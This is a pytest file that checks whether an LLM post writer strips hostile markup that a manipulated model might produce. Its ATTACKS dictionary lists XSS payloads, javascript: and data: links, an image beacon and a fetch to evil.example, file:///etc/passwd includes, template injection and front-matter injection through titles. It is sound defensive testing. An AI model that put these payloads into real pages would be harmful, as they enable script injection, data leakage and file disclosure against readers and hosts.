"""What a model may be talked into writing, and what becomes of it on a page: nothing that acts, and no way out."""

import re
from collections.abc import Iterator

import pytest
from egregora_core.generation import Guard
from egregora_core.plugin import Document, Unit, UnitRefusedError
from egregora_llm.writers import write_post
from markdown_it import MarkdownIt
from model_server import ModelServer, model_server
from soup import chat_unit, told

ATTACKS = {
    "a script": '<script>alert("x")</script> the soup',
    "a picture that tells home": "the soup ![x](https://evil.example/p.png?soup)",
    "a link that acts": "[the soup](javascript:alert(1))",
    "a link elsewhere": "the soup, see https://evil.example/soup",
    "a link spelt so that only a browser reads it": "[the soup](&#106;avascript:alert(1))",
    "a reference": "the soup [x][y]\n\n[y]: https://evil.example",
    "a heading and a page break": "# the soup\n\n---\n\n<h1>PWNED</h1>",
    "a link to a message of others": "[the soup](message:00000000-0000-4000-8000-00000000dead)",
    "a link to a file": "[the soup](file:///etc/passwd)",
    "markup that never ends": "the soup <img src=https://evil.example/x onerror=alert(1)",
    "a link in angles": "the soup <https://evil.example/soup>",
    "a link without a scheme": "[the soup](//evil.example/soup)",
    "a link with backslashes": "[the soup](\\\\evil.example\\soup)",
    "a link with letters that look alike": "the soup, see https://ехample.org/soup",
    "a link of another kind": "the soup, see ftp://evil.example/soup or ipfs://soup",
    "a page in a link": "[the soup](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a link with a colon spelt out": "[the soup](javascript&colon;alert(1))",
    "a link with a break in its scheme": "[the soup](java\nscript:alert(1))",
    "a title of a link": '[the soup](https://evil.example "onmouseover=alert(1)")',
    "a picture in a link": "[![the soup](https://evil.example/p.png)](https://evil.example)",
    "attributes for what stands before": "the soup {: onclick=alert(1) .evil }",
    "a file to be read in": '--8<-- "/etc/passwd" the soup',
    "a template": 'the soup {{ config.extra }} {% include "/etc/passwd" %}',
    "a box": '!!! danger "the soup"\n    PWNED',
    "a footnote": "the soup[^1]\n\n[^1]: https://evil.example",
    "a table": "|the soup|\n|---|\n|<iframe src=https://evil.example>|",
    "a drawing": "<svg/onload=alert(1)> the soup",
    "a comment that is left open": "the soup <!-- and all that follows",
    "a style": "<style>@import url(https://evil.example/soup.css)</style>the soup",
    "a form": '<form action="https://evil.example"><input name=soup></form> the soup',
    "code": '`the soup` ```js\nfetch("https://evil.example")\n```',
    "a formula": "the soup $$\\href{javascript:alert(1)}{x}$$",
    "an address to write to": "the soup: mailto:evil@evil.example?body=soup",
}
"""About soup."""


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    with model_server() as one:
        yield one


def written(server: ModelServer, unit: Unit, attack: str) -> Document | None:
    """Return the document that the host keeps of a model's answer; None where it is refused."""
    server.answer = lambda _: told((attack, [2]))
    given = {"model": "small", "base_url": server.url, "attempts": 1}
    try:
        made = list(write_post(unit, prompt="Tell.", merging="Merge.", kept={}, **given))
        found = [each for each in made if isinstance(each, Document)]
        return Guard("markdown", lambda _text, _said: False).pass_on(unit, found)[0]
    except UnitRefusedError:
        return None


@pytest.mark.parametrize("repeated", [False, True], ids=["made up", "repeated"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_is_talked_into_does_nothing(server: ModelServer, attack: str, *, repeated: bool) -> None:
    """No tag and no picture on a page, and no link that leads where no message does; also where one says all of it."""
    texts = ["Who brings the soup?", ATTACKS[attack] if repeated else "I bring the soup", "Fine"]
    unit = chat_unit(texts)
    document = written(server, unit, ATTACKS[attack])
    if document is None:
        return
    shown = MarkdownIt("commonmark").enable("table").render(document.body)
    assert {tag.lower() for tag in re.findall(r"<\s*([a-z!/]+)", shown, re.IGNORECASE)} <= {
        *("p", "/p", "a", "/a", "hr", "ol", "/ol", "li", "/li"),
    }, shown
    assert "{" not in document.body.replace("\\{", "")
    said = " ".join(texts)
    own = {f"message:{event}" for event in unit.messages.column("event_id").to_pylist()}
    for place in re.findall(r'(?:href|src)="([^"]*)"', shown):
        assert place in own or (place.startswith(("http://", "https://", "mailto:")) and repeated), (place, said)


@pytest.mark.parametrize("title", ["Soup\n---\nevil: true", "<b>Soup</b>", "Soup {{ config }}", 'Soup": evil "'])
def test_a_title_is_one_line(server: ModelServer, title: str) -> None:
    """So it begins no other field of what stands at the head of a page; the page escapes the rest."""
    server.answer = lambda _: told(("The soup is brought.", [2]), title=title)
    given = {"model": "small", "base_url": server.url, "attempts": 1}
    try:
        made = list(write_post(chat_unit(), prompt="Tell.", merging="Merge.", kept={}, **given))
    except UnitRefusedError:
        return
    (document,) = [each for each in made if isinstance(each, Document)]
    assert "\n" not in document.title
    assert "<" not in document.title
